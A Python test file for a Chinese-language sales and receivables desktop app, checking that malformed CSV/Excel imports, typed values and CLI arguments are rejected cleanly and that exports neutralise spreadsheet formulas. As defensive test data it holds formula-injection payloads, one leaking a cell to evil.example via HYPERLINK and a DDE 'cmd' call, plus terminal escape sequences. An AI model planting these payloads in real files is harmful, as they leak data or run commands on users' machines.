"""Hostile input (issue 11): every malformed file, cell and value an attack tried.

Each case goes through the real entry point (``run_import`` on a real vault; the ``baton``
CLI in a subprocess for the command-line ones) and must end in a clear, specific error —
a row error naming the row and column for a bad cell — with nothing changed: the same rows
in every table and not one audit event more. No case may end in another exception.

``pytest -q tests/services/test_hostile_inputs.py`` counts them: every ``test_hostile_import``
and ``test_hostile_cli`` case is one bad input, and each pass is one handled cleanly.
"""

from __future__ import annotations

import csv
import os
import threading
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import func, select

from desktop.config import Paths
from desktop.errors import BatonError, ValidationError, ValidationErrors
from desktop.models.audit import AuditEvent
from desktop.models.customers import Contact, Customer, CustomerAssignment
from desktop.models.orders import FollowUp, Order, Payment, Receivable
from desktop.models.organisation import Branch
from desktop.models.staff import Employee, Position
from desktop.services import customers, followups, money, staff
from desktop.services.exports import export_list
from desktop.services.imports import ImportRejected, run_import, write_error_report
from desktop.services.tabular import MAX_IMPORT_BYTES
from tests.support import ADMIN_PASSWORD, assert_one_line_error, make_vault, run_baton

STAFF_CSV = "工号,姓名,岗位\nE001,张伟,销售经理\nE002,李娜,销售代表\n"
CUSTOMERS_CSV = "客户编码,客户名称,业务员\nC001,恒达,E001\nC002,华南,E002\n"
RECEIVABLES_CSV = "发票号,客户编码,开票日期,应收金额\nINV1,C001,2026-01-05,1000\n"

MODELS = (
    Employee,
    Customer,
    Contact,
    CustomerAssignment,
    Order,
    Receivable,
    Payment,
    FollowUp,
    Branch,
    Position,
    AuditEvent,
)

HEADERS = {
    "staff": "工号,姓名,电话,入职日期",
    "customers": "客户编码,客户名称,账期,信用额度,联系人,联系电话",
    "assignments": "客户,业务员,开始日期",
    "orders": "运单号,客户编码,下单日期,运费",
    "receivables": "发票号,客户编码,开票日期,到期日,应收金额",
    "payments": "客户编码,回款日期,回款金额",
    "followups": "客户编码,跟进日期,跟进内容",
}
# A good row of each kind, so that a case changes one cell of it.
GOOD = {
    "staff": ["E101", "王芳", "13800001111", "2020-01-06"],
    "customers": ["C101", "新锐", "30", "1000", "赵强", "13800002222"],
    "assignments": ["C002", "E001", "2026-02-01"],
    "orders": ["W101", "C001", "2026-01-05", "120.50"],
    "receivables": ["INV101", "C001", "2026-01-05", "2026-02-04", "500"],
    "payments": ["C001", "2026-01-20", "300"],
    "followups": ["C001", "2026-01-05", "电话沟通，下周拜访"],
}
COLUMN_OF = {kind: text.split(",") for kind, text in HEADERS.items()}


def snapshot(ctx) -> dict[str, int]:
    """How many rows each table holds (audit events included)."""
    with ctx.transaction() as s:
        return {m.__name__: s.scalar(select(func.count()).select_from(m)) for m in MODELS}


@pytest.fixture
def firm(admin, tmp_path):
    """Two salespeople, two customers, one open invoice — what the hostile rows refer to."""
    for kind, text in (
        ("staff", STAFF_CSV),
        ("customers", CUSTOMERS_CSV),
        ("receivables", RECEIVABLES_CSV),
    ):
        path = tmp_path / f"seed-{kind}.csv"
        path.write_text(text, encoding="utf-8")
        run_import(admin, kind, path)
    return admin


# --------------------------------------------------------------------------- the cases


@dataclass(frozen=True)
class Case:
    """One bad input: the import kind, how the file is made, what the error must say, and
    (for a cell) the row and the column it must name."""

    id: str
    kind: str
    make: Callable[[Path], Path]
    needle: str
    row: int | None = None
    column: str | None = None


def csv_text(name: str, text: str, newline: str = "\n") -> Callable[[Path], Path]:
    def make(tmp: Path) -> Path:
        path = tmp / name
        path.write_bytes(text.replace("\n", newline).encode("utf-8"))
        return path

    return make


def one_cell(kind: str, column: str, value: str) -> Callable[[Path], Path]:
    """A CSV of the kind's header and its good row with ``column`` set to ``value``."""
    row = list(GOOD[kind])
    row[COLUMN_OF[kind].index(column)] = value

    def make(tmp: Path) -> Path:
        path = tmp / f"{kind}.csv"
        with open(path, "w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle)
            writer.writerow(COLUMN_OF[kind])
            writer.writerow(row)
        return path

    return make


def xlsx_cell(kind: str, column: str, value: Any) -> Callable[[Path], Path]:
    """The same as an Excel workbook, the cell holding ``value`` as Excel would (a number)."""
    row: list[Any] = list(GOOD[kind])
    row[COLUMN_OF[kind].index(column)] = value

    def make(tmp: Path) -> Path:
        book = openpyxl.Workbook()
        sheet = book.active
        sheet.append(COLUMN_OF[kind])
        sheet.append(row)
        path = tmp / f"{kind}.xlsx"
        book.save(path)
        return path

    return make


def cell_case(id: str, kind: str, column: str, value: Any, needle: str, xlsx: bool = False) -> Case:
    make = xlsx_cell(kind, column, value) if xlsx else one_cell(kind, column, value)
    return Case(id, kind, make, needle, row=2, column=column)


def special_file(kind: str) -> Callable[[Path], Path]:
    def make(tmp: Path) -> Path:
        if kind == "dev-zero":
            path = tmp / "zero.csv"
            path.symlink_to("/dev/zero")
        elif kind == "fifo":
            path = tmp / "pipe.csv"
            os.mkfifo(path)
        elif kind == "folder":
            path = tmp / "folder.csv"
            path.mkdir()
        elif kind == "huge":
            path = tmp / "huge.csv"
            with open(path, "wb") as handle:
                handle.write(b"\xe5\xae\xa2\xe6\x88\xb7\xe7\xbc\x96\xe7\xa0\x81\n")
                handle.truncate(MAX_IMPORT_BYTES + 1)  # sparse: no disk used
        elif kind == "raw-dev-zero":
            path = Path("/dev/zero")
        elif kind == "missing":
            path = tmp / "missing.csv"
        elif kind == "fake-xlsx":
            path = tmp / "fake.xlsx"
            path.write_bytes(b"PK\x03\x04" + b"\x00" * 64)
        else:
            raise AssertionError(kind)
        return path

    return make


C, O, R, P, F, S, A = (  # noqa: E741
    "customers",
    "orders",
    "receivables",
    "payments",
    "followups",
    "staff",
    "assignments",
)
CH = "客户编码,客户名称,账期\n"
FIVE_MILLION = "甲" * 5_000_000

CASES: list[Case] = [
    # ----- CSV structure: an unbalanced quote must never merge two rows silently.
    Case(
        "quote-joins-two-customers",
        C,
        csv_text("c.csv", CH + 'C101,"恒达,30\nC102,华南",45\n'),
        "runs over lines 2 to 3",
        row=2,
        column="客户名称",
    ),
    Case(
        "quote-never-closed",
        C,
        csv_text("c.csv", CH + 'C101,"恒达,30\nC102,华南,45\n'),
        'line 2 of the file: a quote (") opened there is never closed',
        row=2,
    ),
    Case(
        "text-after-closing-quote",
        C,
        csv_text("c.csv", CH + 'C101,恒达,30\nC102,"华南"电子,45\n'),
        "line 3 of the file cannot be read",
        row=3,
    ),
    Case(
        "quote-shifts-cells",
        C,
        csv_text("c.csv", CH + 'C101,"恒达,30\nC102",华南,45\n'),
        "(lines 2 to 3 of the file) has 4 cells but the header only 3",
        row=2,
    ),
    Case(
        "unquoted-comma-adds-a-cell",
        C,
        csv_text("c.csv", CH + "C101,恒达,有限公司,30\n"),
        "this row (line 2 of the file) has 4 cells but the header only 3",
        row=2,
    ),
    Case(
        "cr-only-line-endings-bad-amount",
        O,
        csv_text("o.csv", HEADERS[O] + "\nW101,C001,2026-01-05,abc\n", newline="\r"),
        "not an amount",
        row=2,
        column="运费",
    ),
    Case(
        "nul-byte-in-csv",
        C,
        csv_text("c.csv", CH + "C101,恒\x00达,30\n"),
        "U+0000",
        row=2,
        column="客户名称",
    ),
    Case(
        "five-million-character-name",
        C,
        csv_text("c.csv", CH + f"C101,{FIVE_MILLION},30\n"),
        "longer than 200 characters",
        row=2,
        column="客户名称",
    ),
    Case(
        "five-million-character-amount",
        O,
        csv_text("o.csv", HEADERS[O] + "\nW101,C001,2026-01-05," + "9" * 5_000_000 + "\n"),
        "longer than 1000 characters",
        row=2,
        column="运费",
    ),
    Case(
        "control-character-in-header",
        C,
        csv_text("c.csv", "客户编码,客户\x1b名称,账期\nC101,恒达,30\n"),
        "unknown column",
        row=1,
    ),
    # ----- the file itself
    Case("dev-zero-as-csv", C, special_file("dev-zero"), "not a file but a folder, a device"),
    Case("fifo-as-csv", C, special_file("fifo"), "not a file but a folder, a device"),
    Case("folder-as-csv", C, special_file("folder"), "not a file but a folder, a device"),
    Case("file-over-the-size-limit", C, special_file("huge"), "larger than 100 MB"),
    Case("dev-zero-itself", C, special_file("raw-dev-zero"), "only .csv, .xlsx and .xls"),
    Case("missing-file", C, special_file("missing"), "cannot be opened"),
    Case("zip-header-then-junk", C, special_file("fake-xlsx"), "not an Excel workbook"),
]

# ----- amounts: beyond what integer fen in 64 bits hold, or no number at all
for kind, column in ((O, "运费"), (R, "应收金额"), (P, "回款金额"), (C, "信用额度")):
    for label, value, needle in (
        ("1e17", "100000000000000000", "too large"),
        ("1e17-sci", "1e17", "too large"),
        ("1e30", "1e30", "too large"),
        ("1e300", "1e300", "too large"),
        ("5000-digits", "9" * 5000, "longer than 1000 characters"),
        ("999-digits", "9" * 999, "too large"),
        ("huge-exponent", "1e999999999999", "too large"),
        ("nan", "NaN", "not an amount"),
        ("infinity", "Infinity", "not an amount"),
    ):
        CASES.append(cell_case(f"{kind}-amount-{label}", kind, column, value, needle))
    CASES.append(cell_case(f"{kind}-amount-xlsx-1e17", kind, column, 10**17, "too large", True))
    CASES.append(cell_case(f"{kind}-amount-xlsx-1e30", kind, column, 1e30, "too large", True))
    CASES.append(cell_case(f"{kind}-amount-xlsx-1e300", kind, column, 1e300, "too large", True))
CASES.append(cell_case("orders-negative-1e17", O, "运费", "-1e17", "too large"))

# ----- implausible dates
for kind, column in (
    (O, "下单日期"),
    (R, "开票日期"),
    (R, "到期日"),
    (P, "回款日期"),
    (F, "跟进日期"),
    (S, "入职日期"),
    (A, "开始日期"),
):
    for value in ("1899-12-31", "1949-12-31", "2999-01-01", "9999-12-31"):
        CASES.append(
            cell_case(f"{kind}-{column}-{value}", kind, column, value, "not a plausible date")
        )
CASES.append(
    # Excel's day zero: calamine reads it as a time of day, which is no date.
    cell_case("orders-xlsx-date-1899", O, "下单日期", datetime(1899, 12, 31), "not a date", True)
)
CASES.append(cell_case("orders-excel-serial-1", O, "下单日期", 1, "not a plausible date", True))

# ----- control, zero-width and bidi characters in names and phones
HIDDEN = (
    ("nul", "恒\x00达", "U+0000"),
    ("esc-clear-screen", "恒达\x1b[2J", "U+001B"),
    ("esc-osc-title", "\x1b]0;pwned\x07恒达", "U+001B"),
    ("c1-csi", "恒达\x9b31m", "U+009B"),
    ("del", "恒达\x7f", "U+007F"),
    ("zero-width-space", "恒\u200b达", "U+200B"),
    ("zero-width-joiner", "恒\u200d达", "U+200D"),
    ("bidi-override", "恒达\u202eexe.txt", "U+202E"),
    ("bidi-isolate", "\u2066恒达", "U+2066"),
    ("bom-inside", "恒\ufeff达", "U+FEFF"),
    ("line-separator", "恒\u2028达", "U+2028"),
)
for label, value, needle in HIDDEN:
    CASES.append(cell_case(f"customer-name-{label}", C, "客户名称", value, needle))
for label, value, needle in HIDDEN[:6]:
    CASES.append(cell_case(f"staff-name-{label}", S, "姓名", value, needle))
CASES += [
    cell_case("staff-phone-zero-width", S, "电话", "138\u200b00001111", "U+200B"),
    cell_case("staff-phone-nul", S, "电话", "13800001111\x00", "U+0000"),
    cell_case("contact-phone-esc", C, "联系电话", "\x1b[31m13800002222", "U+001B"),
    cell_case("contact-name-bidi", C, "联系人", "赵\u202e强", "U+202E"),
    cell_case("customer-code-tab", C, "客户编码", "C1\t01", "line break or tab"),
    cell_case("followup-content-esc", F, "跟进内容", "电话\x1b[2J沟通", "U+001B"),
    cell_case("staff-name-xlsx-newline", S, "姓名", "王\n芳", "line break", True),
    cell_case("amount-with-line-break", O, "运费", "12\n34", "runs over lines 2 to 3"),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_import(firm, tmp_path, case: Case) -> None:
    """The bad input ends in its specific error; every table is as it was."""
    path = case.make(tmp_path)
    before = snapshot(firm)
    result: dict[str, Any] = {}

    def attempt() -> None:
        try:
            run_import(firm, case.kind, path)
        except BaseException as exc:  # judged below, in the test's thread
            result["error"] = exc
        else:
            result["error"] = None

    # In a thread, so that a hang (reading a pipe, /dev/zero) fails the test instead of
    # the run.
    worker = threading.Thread(target=attempt, daemon=True)
    worker.start()
    worker.join(timeout=60)
    assert not worker.is_alive(), "the import hung"
    error = result["error"]
    assert error is not None, "the bad input was imported"
    assert isinstance(error, BatonError), f"not a clean error: {type(error).__name__}: {error}"
    if isinstance(error, ImportRejected):
        matching = [e for e in error.preview.errors if case.needle in e.reason()]
        assert matching, [(e.row, e.column, e.reason()) for e in error.preview.errors]
        if case.row is not None:
            assert any(e.row == case.row for e in matching), [(e.row, e.reason()) for e in matching]
        if case.column is not None:
            assert any(e.column == case.column for e in matching), [e.column for e in matching]
        for e in error.preview.errors:
            assert len(e.value) <= 200, "a huge cell is shortened in the report"
            assert "\x1b" not in e.value and "\x00" not in e.value
    else:
        assert case.row is None, f"expected a row error, got: {error.message()}"
        assert case.needle in error.message(), error.message()
    assert snapshot(firm) == before, "a refused import changed nothing"


def test_cr_only_line_endings_import_correctly(firm, tmp_path):
    """Old Mac Excel's CR-only CSV reads as rows, not one giant line."""
    text = HEADERS[O] + "\rW101,C001,2026-01-05,120.50\rW102,C002,2026-01-06,80\r"
    path = tmp_path / "mac.csv"
    path.write_bytes(text.encode("utf-8"))
    assert run_import(firm, O, path).inserted["orders"] == 2


def test_free_text_keeps_its_line_breaks(firm, tmp_path):
    """A follow-up written over several lines (quoted, as Excel writes it) is not an attack."""
    path = tmp_path / "f.csv"
    path.write_text(
        HEADERS[F] + '\nC001,2026-01-05,"第一行，客户说下周再谈\n第二行：带样品拜访"\n',
        encoding="utf-8",
    )
    assert run_import(firm, F, path).inserted["followups"] == 1
    with firm.transaction() as s:
        assert s.scalar(select(FollowUp.content)) == "第一行，客户说下周再谈\n第二行：带样品拜访"


def test_a_parsing_import_does_not_hold_the_write_lock(firm, tmp_path):
    """While a file is read and parsed no transaction is open: another writer is not made to
    wait for it (the file is read before the unit of work begins)."""
    started = threading.Event()
    release = threading.Event()
    from desktop.services import tabular

    real = tabular.read_import_bytes

    def slow_read(path: Path) -> bytes:
        started.set()
        release.wait(30)
        return real(path)

    path = tmp_path / "orders.csv"
    path.write_text(HEADERS[O] + "\nW101,C001,2026-01-05,120.50\n", encoding="utf-8")
    tabular.read_import_bytes = slow_read
    try:
        worker = threading.Thread(target=run_import, args=(firm, O, path), daemon=True)
        worker.start()
        assert started.wait(30)
        # The import is reading; a write from here must go through at once.
        customers.create_customer(firm, customers.CustomerInput(code="C900", name="并发"))
        release.set()
        worker.join(60)
    finally:
        tabular.read_import_bytes = real
        release.set()
    assert snapshot(firm)["Order"] == 1 and snapshot(firm)["Customer"] == 3


# --------------------------------------------------------------------------- typed input


def _ids(ctx) -> tuple[int, int]:
    with ctx.transaction() as s:
        return (
            s.scalar(select(Customer.id).where(Customer.code == "C001")),
            s.scalar(select(Employee.id).where(Employee.employee_no == "E001")),
        )


TYPED: list[tuple[str, Callable[[Any, int, int], Any], str]] = [
    (
        "customer-name-nul",
        lambda ctx, c, e: customers.create_customer(
            ctx, customers.CustomerInput(code="C900", name="恒\x00达")
        ),
        "U+0000",
    ),
    (
        "customer-name-bidi",
        lambda ctx, c, e: customers.create_customer(
            ctx, customers.CustomerInput(code="C900", name="恒达\u202eexe")
        ),
        "U+202E",
    ),
    (
        "employee-name-esc",
        lambda ctx, c, e: staff.create_employee(
            ctx, staff.EmployeeInput(employee_no="E900", name="\x1b[2J王")
        ),
        "U+001B",
    ),
    (
        "employee-phone-zero-width",
        lambda ctx, c, e: staff.create_employee(
            ctx, staff.EmployeeInput(employee_no="E900", name="王", phone="138\u200b00001111")
        ),
        "U+200B",
    ),
    (
        "employee-hired-2999",
        lambda ctx, c, e: staff.create_employee(
            ctx, staff.EmployeeInput(employee_no="E900", name="王", hire_date=date(2999, 1, 1))
        ),
        "not plausible",
    ),
    (
        "employee-hired-1899",
        lambda ctx, c, e: staff.create_employee(
            ctx, staff.EmployeeInput(employee_no="E900", name="王", hire_date=date(1899, 12, 31))
        ),
        "not plausible",
    ),
    (
        "order-dated-9999",
        lambda ctx, c, e: money.create_order(
            ctx, money.OrderInput("W900", c, date(9999, 12, 31), Decimal("10"))
        ),
        "not plausible",
    ),
    (
        "order-revenue-1e17",
        lambda ctx, c, e: money.create_order(
            ctx, money.OrderInput("W900", c, date(2026, 1, 5), Decimal("1e17"))
        ),
        "too large",
    ),
    (
        "order-revenue-1e30",
        lambda ctx, c, e: money.create_order(
            ctx, money.OrderInput("W900", c, date(2026, 1, 5), Decimal("1e30"))
        ),
        "too large",
    ),
    (
        "invoice-issued-9999",
        lambda ctx, c, e: money.create_receivable(
            ctx, money.ReceivableInput("INV900", c, date(9999, 12, 31), Decimal("10"))
        ),
        "not plausible",
    ),
    (
        "payment-received-1899",
        lambda ctx, c, e: money.record_payment(
            ctx, money.PaymentInput(c, date(1899, 12, 31), Decimal("10"))
        ),
        "not plausible",
    ),
    (
        "followup-dated-1899",
        lambda ctx, c, e: followups.add_followup(ctx, c, date(1899, 12, 31), "phone", "电话"),
        "not plausible",
    ),
]


@pytest.mark.parametrize("make", [t[1] for t in TYPED], ids=[t[0] for t in TYPED])
def test_hostile_typed_input(firm, make, request):
    """The same values typed into a form: the shared validators refuse them."""
    needle = next(t[2] for t in TYPED if t[0] == request.node.callspec.id)
    customer, employee = _ids(firm)
    before = snapshot(firm)
    with pytest.raises((ValidationError, ValidationErrors)) as caught:
        make(firm, customer, employee)
    assert needle in caught.value.message()
    assert snapshot(firm) == before


def test_last_working_day_in_2999_is_refused(firm):
    from desktop.services import departures

    _, employee = _ids(firm)
    before = snapshot(firm)
    with pytest.raises((ValidationError, ValidationErrors)) as caught:
        departures.start_case(firm, departures.CaseInput(employee, date(2999, 1, 1)))
    assert "not plausible" in caught.value.message()
    assert snapshot(firm) == before


def test_legitimate_values_still_pass(firm):
    """The bounds refuse accidents, not real values: a 1960s hire, next year's due date, an
    amount of 99,999,999,999.99, a multi-line note."""
    customer, _ = _ids(firm)
    staff.create_employee(
        firm, staff.EmployeeInput(employee_no="E900", name="老王", hire_date=date(1968, 3, 1))
    )
    money.create_order(
        firm,
        money.OrderInput("W900", customer, date(2026, 1, 5), Decimal("99999999999.99")),
    )
    followups.add_followup(firm, customer, date(2026, 1, 5), "phone", "第一行\n第二行")


# --------------------------------------------------------------------------- exports

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
)


@pytest.fixture
def hostile_rows(firm):
    """Customers whose names are formulas or hold a control character, as an older version
    or another tool may have stored them (written straight to the table: the services
    refuse such names now), and a negative credit figure that must stay a number."""
    with firm.transaction() as s:
        for i, name in enumerate((*FORMULAS, "恒达\x1b[2J\x07"), start=1):
            s.add(
                Customer(
                    code=f"X{i:02d}",
                    name=name,
                    credit_limit=Decimal("-12.50"),
                    payment_terms_days=30,
                    in_pool=True,
                    active=True,
                    industry="-物流",
                )
            )
    return firm


def test_xlsx_export_stores_formula_text_as_text(hostile_rows, tmp_path):
    out = tmp_path / "customers.xlsx"
    export_list(hostile_rows, "customers", out)
    book = openpyxl.load_workbook(out)
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell is a formula"
    names = {c.value for c in cells if c.column == 2}
    for formula in FORMULAS:
        # XML has no bare carriage return: the reader sees it as a line feed.
        assert formula.replace("\r", "\n") in names, f"{formula!r} is shown as the text it is"
    assert "恒达\ufffd[2J\ufffd" in names, "a control character no longer fails the export"
    hostile = {c.row for c in cells if c.column == 1 and str(c.value).startswith("X")}
    credit = [c for c in cells if c.column == 8 and c.row in hostile]
    assert len(credit) == 7 and all(c.value == -12.5 and c.data_type == "n" for c in credit)


def test_csv_export_neutralises_formulas_but_keeps_numbers(hostile_rows, tmp_path):
    out = tmp_path / "customers.csv"
    export_list(hostile_rows, "customers", out)
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    name, credit, industry = (header.index(h) for h in ("客户名称", "信用额度", "行业"))
    names = {r[name] for r in rows[1:]}
    for formula in FORMULAS:
        assert "'" + formula in names, f"{formula!r} gets a leading apostrophe"
    for row in rows[1:]:
        assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r"))
        if row[0].startswith("X"):
            assert row[credit] == "-12.50", "a negative amount stays a number"
            assert row[industry] == "'-物流", "text that starts with - is neutralised"


def test_exported_csv_imports_back_without_the_apostrophe(hostile_rows, tmp_path):
    """An apostrophe added on export is removed on import: the round trip keeps the text."""
    path = tmp_path / "back.csv"
    path.write_text('客户编码,客户名称\nC777,"\'=HYPERLINK(""x"")"\n', encoding="utf-8")
    run_import(hostile_rows, "customers", path)
    with hostile_rows.transaction() as s:
        assert s.scalar(select(Customer.name).where(Customer.code == "C777")) == '=HYPERLINK("x")'


def test_error_report_neutralises_the_cells_it_repeats(firm, tmp_path):
    path = tmp_path / "c.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["客户编码", "客户名称", "信用额度"])
        for i, formula in enumerate(FORMULAS):
            writer.writerow([f"N{i:03d}", "恒达", formula])
    with pytest.raises(ImportRejected) as caught:
        run_import(firm, "customers", path)
    report = tmp_path / "report.csv"
    write_error_report(caught.value.preview.errors, report)
    with open(report, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 1 + len(FORMULAS)
    for row in rows[1:]:
        for cell in row[1:]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert {row[2] for row in rows[1:]} >= {"'" + f for f in FORMULAS[:4]}


def test_error_report_into_a_missing_folder_is_a_clear_error(firm, tmp_path):
    with pytest.raises(ValidationError) as caught:
        write_error_report([], tmp_path / "nowhere" / "report.csv")
    assert "does not exist" in caught.value.message()


def test_commission_statement_xlsx_stores_text_as_text():
    from desktop.reports.commission_statement import statement_xlsx
    from desktop.services.commissions import Statement, StatementLine

    line = StatementLine(
        id=1,
        source="order",
        source_date=date(2026, 1, 5),
        reference='=HYPERLINK("http://evil.example","x")',
        base=Decimal("-12.50"),
        rate=Decimal("0.05"),
        tier=None,
        amount=Decimal("-0.63"),
        status="earned",
        clause="base",
        parts=(),
        ref_line_id=None,
        origin_month=None,
    )
    data = Statement(
        company="+恒达\x1b[2J",
        month="2026-01",
        period_state="open",
        employee_id=1,
        employee_no="@E001",
        employee_name="-张伟",
        branch=None,
        position=None,
        lines=(line,),
        totals={"earned": Decimal("-0.63")},
        payable=Decimal("-0.63"),
        cap_warnings=(),
        policy_warnings=(),
    )
    import io

    book = openpyxl.load_workbook(io.BytesIO(statement_xlsx(data)))
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert '=HYPERLINK("http://evil.example","x")' in values
    assert "+恒达\ufffd[2J" in values
    assert any(c.value == Decimal("-12.50") or c.value == -12.5 for c in cells)


# --------------------------------------------------------------------------- the CLI


@pytest.fixture
def cli_vault(paths: Paths, tmp_path: Path) -> Paths:
    make_vault(paths)
    (tmp_path / "staff.csv").write_text(STAFF_CSV, encoding="utf-8")
    (tmp_path / "customers.csv").write_text(CUSTOMERS_CSV, encoding="utf-8")
    for kind in ("staff", "customers"):
        proc = run_baton(
            paths.data_dir, "import", kind, str(tmp_path / f"{kind}.csv"), password=ADMIN_PASSWORD
        )
        assert proc.returncode == 0, proc.stderr
    return paths


def _cli_file(tmp: Path, what: str) -> str:
    if what == "bad-customers":
        path = tmp / "bad.csv"
        path.write_text(CH + "C101,\x1b[2J恒达,30\nC001,重复," + "9" * 5000 + "\n", "utf-8")
        return str(path)
    return str(special_file(what)(tmp))


CLI_CASES: list[tuple[str, Callable[[Path], list[str]], str]] = [
    (
        "report-into-missing-folder",
        lambda t: [
            "import",
            "customers",
            _cli_file(t, "bad-customers"),
            "--report",
            str(t / "nowhere" / "r.csv"),
        ],
        "does not exist",
    ),
    ("import-dev-zero", lambda t: ["import", "customers", _cli_file(t, "dev-zero")], "a device"),
    ("import-fifo", lambda t: ["import", "customers", _cli_file(t, "fifo")], "a device"),
    ("import-huge", lambda t: ["import", "customers", _cli_file(t, "huge")], "larger than"),
    (
        "search-100k-characters",
        lambda t: ["export", "customers", "--out", str(t / "x.csv"), "--search", "x" * 100_000],
        "The search is too long",
    ),
    (
        "search-50k-words",
        lambda t: ["export", "staff", "--out", str(t / "x.csv"), "--search", "a " * 50_000],
        "The search is too long",
    ),
    ("compute-0001-01", lambda t: ["commissions", "compute", "0001-01"], "not plausible"),
    ("compute-9999-12", lambda t: ["commissions", "compute", "9999-12"], "not plausible"),
]


@pytest.mark.parametrize("args", [c[1] for c in CLI_CASES], ids=[c[0] for c in CLI_CASES])
def test_hostile_cli(cli_vault, tmp_path, args, request):
    """One line on stderr naming the problem, exit 2, no traceback, nothing changed."""
    needle = next(c[2] for c in CLI_CASES if c[0] == request.node.callspec.id)
    from desktop.services.login import login

    def counts() -> tuple[dict[str, int], list[str]]:
        """Rows per table, and the audit trail as "action entity" (logins are audited; a
        refused import, export or computation must add nothing else)."""
        ctx = login(cli_vault, "admin", ADMIN_PASSWORD)
        try:
            rows = snapshot(ctx)
            with ctx.transaction() as s:
                actions = [
                    f"{a} {e}"
                    for a, e in s.execute(
                        select(AuditEvent.action, AuditEvent.entity).order_by(AuditEvent.seq)
                    )
                ]
            del rows["AuditEvent"]
            return rows, actions
        finally:
            ctx.close()

    before = counts()
    proc = run_baton(cli_vault.data_dir, *args(tmp_path), password=ADMIN_PASSWORD, timeout=60)
    assert_one_line_error(proc, 2, needle)
    rows, actions = counts()
    assert rows == before[0], "nothing written"
    assert actions[: len(before[1])] == before[1]
    added = actions[len(before[1]) :]
    # Each login (the command's and the count's) records its attempt and the user's last
    # login; nothing else may follow.
    assert set(added) <= {"insert login_attempt", "update app_user"}, added


def test_cli_row_errors_print_no_terminal_escapes_or_huge_cells(cli_vault, tmp_path):
    report = tmp_path / "r.csv"
    proc = run_baton(
        cli_vault.data_dir,
        "import",
        "customers",
        _cli_file(tmp_path, "bad-customers"),
        "--report",
        str(report),
        password=ADMIN_PASSWORD,
    )
    assert proc.returncode == 2, proc.stderr
    assert "\x1b" not in proc.stdout and "Traceback" not in proc.stderr
    assert "U+001B" in proc.stdout
    assert len(proc.stdout) < 5000, "a 5,000-digit cell is shortened when printed"
    assert report.exists()
